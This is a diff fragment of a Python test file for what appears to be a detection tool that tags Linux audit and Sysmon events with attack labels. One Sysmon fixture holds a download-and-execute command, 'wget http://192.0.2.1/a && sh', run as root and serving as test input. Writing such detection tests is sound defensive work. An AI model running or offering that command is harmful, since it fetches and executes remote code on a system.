@@ -86,6 +86,10 @@ for records, technique in (
                                                if each["kind"] in ("condition", "direct")], True)
     check("the message", (said, status), ("", 0))
 
+for kind in ("SYSCALL", "USER_LOGIN"):
+    check("a node that is no record's", json.loads(tag(f"node=a b type={kind} msg=audit(1.000:1): uid=1\n".encode())[0]).keys(),
+          {"ID", kind, "attack"})
+
 # ---- Sysmon for Linux: the same as the event in the form of evtx_dump
 
 fields = {"Image": "/usr/bin/wget", "CommandLine": "wget http://192.0.2.1/a && sh", "User": "root"}
